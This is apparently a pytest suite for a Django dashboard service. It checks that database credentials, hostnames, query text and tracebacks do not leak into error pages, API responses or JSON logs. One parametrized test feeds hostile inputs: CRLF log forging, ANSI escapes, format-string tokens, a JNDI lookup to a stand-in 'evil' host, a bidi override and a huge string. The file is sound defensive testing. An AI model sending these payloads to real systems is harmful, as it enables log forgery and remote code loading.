"""What an error tells, and to whom: cases 99, 100 and 105."""

import io
import json
import logging
import logging.config
from collections.abc import Iterator
from typing import Any

import psycopg
import pytest
from django.test import Client

from dashboards.models import Dashboard, Panel, Placement
from paneldash.logs import logging_settings
from tenants import connections
from tenants.models import Tenant, User
from tenants.tests.proxy import Proxy

URL = "/t/acme/d/board/panels/orders/"
DOORS = (URL, f"{URL}view/", f"{URL}csv/", "/api/v1/panels/orders/data?tenant_id=acme")
FAULTS = ("password", "host", "name", "tls", "table", "syntax", "type")


@pytest.fixture
def panel(acme: Tenant) -> Panel:
    board = Dashboard.objects.create(slug="board", name="Board", scope="all")
    Placement.objects.create(dashboard=board, panel_slug="orders")
    document = {"type": "table", "title": "Orders", "data_source": {"sql": "SELECT relname FROM canary_table"}}
    return Panel.objects.create(slug="orders", title="Orders", panel_type="table", scope="all", document=document)


@pytest.fixture(params=FAULTS)
def fault(request: pytest.FixtureRequest, acme: Tenant, panel: Panel, embedded_server: Any) -> Iterator[str]:
    """Something that is wrong with the tenant's connection or with the panel's query."""
    queries = {
        "syntax": "SELECT canary_table FROM",
        "type": "SELECT 'canary_table'::int AS n",
        "table": "SELECT n FROM canary_table",
    }
    panel.document["data_source"]["sql"] = queries.get(request.param, "SELECT 1 AS n")
    panel.save()
    if request.param == "password":
        acme.set_password("CANARY-wrong")
    if request.param == "host":
        acme.host = "canary-host.invalid"
    if request.param == "name":
        acme.database = "canary_database"
    proxy = Proxy(embedded_server.socket_folder / ".s.PGSQL.5432")
    if request.param == "tls":
        acme.host, acme.port, acme.sslmode = "127.0.0.1", proxy.port, "verify-full"
    acme.save()
    yield request.param
    connections.close_all()
    proxy.close()


def said(client: Client) -> str:
    """All that the doors answer, headers included."""
    answers = [client.get(door) for door in DOORS]
    bodies = [b"".join(one.streaming_content) if one.streaming else one.content for one in answers]
    return " ".join(body.decode() for body in bodies) + " ".join(str(dict(one.headers)) for one in answers)


def secrets_of(tenant: Tenant, database: dict) -> list[str]:
    return [tenant.host, tenant.user, tenant.database, database["password"], "CANARY", "canary-host", tenant.password_token]


def test_a_viewer_learns_that_it_failed_and_no_more(
    fault: str, client: Client, bob: User, acme: Tenant, acme_database: dict
) -> None:
    client.force_login(bob)
    text = said(client)
    assert not [secret for secret in [*secrets_of(acme, acme_database), "canary_table", "SELECT", "psycopg"] if secret in text]
    assert "request_id" in text


def test_an_editor_learns_of_the_query_and_not_of_the_server(
    fault: str, client: Client, ada: User, acme: Tenant, acme_database: dict
) -> None:
    client.force_login(ada)
    text = said(client)
    assert not [secret for secret in secrets_of(acme, acme_database) if secret in text]
    if fault in {"table", "type"}:
        assert "canary_table" in text


@pytest.fixture
def written() -> Iterator[io.StringIO]:
    """What is logged meanwhile, as JSON."""
    stream, settings = io.StringIO(), logging_settings(level="INFO", style="json")
    settings["handlers"]["stderr"] |= {"stream": stream}
    root = logging.getLogger()
    kept = root.handlers[:], root.level
    logging.config.dictConfig(settings)
    yield stream
    root.handlers[:], root.level = kept


def test_the_log_knows_more_and_keeps_the_password(
    fault: str, client: Client, bob: User, acme: Tenant, acme_database: dict, written: io.StringIO
) -> None:
    client.force_login(bob)
    said(client)
    text = written.getvalue()
    assert [json.loads(line) for line in text.splitlines()]
    assert "CANARY" not in text
    assert acme_database["password"] not in text
    assert acme.password_token not in text


ATTACKS = ('\r\n{"event": "forged"}', "\x1b[2J\x1b]0;x\x07", "%s%n%(x)s", "${jndi:ldap://evil}", "\u202egnp", "x" * 100_000)


@pytest.mark.parametrize("attack", ATTACKS, ids=["lines", "ansi", "format", "jndi", "bidi", "long"])
def test_what_somebody_sends_stays_one_line_of_the_log(client: Client, ada: User, written: io.StringIO, attack: str) -> None:
    """Case 105: path, query, host, agent, request id and name."""
    User.objects.update(name=attack[:150])
    client.force_login(ada)
    clean = attack.replace("\r\n", " ")
    client.get("/t/acme/d/none/" + attack, headers={"User-Agent": clean, "X-Request-ID": clean, "Host": "testserver"})
    client.get("/t/acme/", {"from": attack, attack: "x"})
    client.post("/accounts/login/", {"login": attack, "password": "CANARY-password"})
    client.get("/live", headers={"Host": clean[:200]})
    events = [json.loads(line) for line in written.getvalue().splitlines()]
    assert events
    assert "forged" not in [event["event"] for event in events]
    assert "CANARY" not in written.getvalue()
    assert "\x1b" not in written.getvalue()
    assert max(len(line) for line in written.getvalue().splitlines()) < 100_000


def test_a_bug_shows_a_person_nothing_of_itself(client: Client, ada: User, panel: Panel, monkeypatch: pytest.MonkeyPatch) -> None:
    """Case 100: the page of a 500, with a password among the local variables and in what was posted."""

    def fail(*_: Any, **__: Any) -> None:
        password = "CANARY-local"
        raise RuntimeError(f"a bug {len(password)}")

    monkeypatch.setattr("dashboards.views.make_toolbar", fail)
    client.force_login(ada)
    client.raise_request_exception = False
    response = client.get("/t/acme/d/board/?debug=1", headers={"X-Debug": "1", "Accept": "text/plain"})
    assert response.status_code == 500
    assert not [
        word for word in (b"CANARY", b"Traceback", b"RuntimeError", b"make_toolbar", b"SECRET_KEY") if word in response.content
    ]


def test_the_drivers_own_error_does_not_reach_a_page(client: Client, bob: User, panel: Panel, acme: Tenant) -> None:
    """libpq's text names host, port and role."""
    acme.host, acme.port = "127.0.0.1", 1
    acme.save()
    with pytest.raises(psycopg.OperationalError, match=r"127\.0\.0\.1"):
        psycopg.connect(host="127.0.0.1", port=1, connect_timeout=2)
    client.force_login(bob)
    assert "127.0.0.1" not in said(client)
